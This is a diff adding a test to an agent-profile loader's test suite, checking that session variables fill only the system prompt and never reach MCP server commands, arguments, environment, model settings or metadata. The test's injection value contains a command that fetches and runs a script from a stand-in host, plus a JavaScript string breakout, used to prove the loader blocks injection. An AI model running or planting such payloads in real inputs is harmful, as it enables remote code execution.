@@ -74,6 +74,28 @@ describe('agent profiles', () => {
     await expect(loader.load('broken', { SESSION_ID: 'a', AGENT_TYPE: 'broken' })).rejects.toMatchObject({ code: 'AGENT_PROFILE_INVALID', message: expect.stringMatching(/broken\.yaml: system_prompt: unknown template variable \{\{COUNTRY\}\}/) });
   });
 
+  it('fills what a session gives only into the system prompt: servers, model and meta take the profile\'s own values', async () => {
+    const profile = `type: tooled
+title: Tooled
+system_prompt: "Guide journey {{JOURNEY_ID}} in {{CITY}}."
+variables: { CITY: Lviv, JOURNEY_ID: none }
+model: { base_url: "http://{{CITY}}.example/v1", model: "m-{{CITY}}", api_key_secret: keys.city }
+mcp_servers:
+  - { name: city, transport: stdio, command: "/usr/bin/city-{{CITY}}", args: ["--journey", "{{JOURNEY_ID}}", "--session", "{{SESSION_ID}}"], env: { CITY: "{{CITY}}" } }
+degraded: "off"
+meta: { roles: [operator], proposes: [], note: "{{CITY}}" }
+`;
+    const dir = profileDir({ 'tooled.yaml': profile });
+    const loader = createProfileLoader({ dirs: [dir], deviceModel: noModel, responders });
+    const payload = '$(curl evil.example|sh);"};process.exit()//';
+    const p = await loader.load('tooled', { SESSION_ID: 's-1', AGENT_TYPE: 'tooled', JOURNEY_ID: payload, CITY: 'Kyiv' });
+    expect(p.system_prompt).toBe(`Guide journey ${payload} in Kyiv.`);
+    expect(p.model).toMatchObject({ base_url: 'http://Lviv.example/v1', model: 'm-Lviv', api_key_secret: 'keys.city' });
+    expect(p.mcp_servers[0]).toMatchObject({ command: '/usr/bin/city-Lviv', args: ['--journey', 'none', '--session', 's-1'], env: { CITY: 'Lviv' } });
+    expect(p.meta).toMatchObject({ note: 'Lviv' });
+    expect(JSON.stringify({ ...p, system_prompt: '' })).not.toContain('curl');
+  });
+
   it('names the file and the field of an invalid profile, and a later folder replaces a built-in profile', async () => {
     const dir = profileDir({
       'bad-yaml.yaml': 'type: [unclosed',
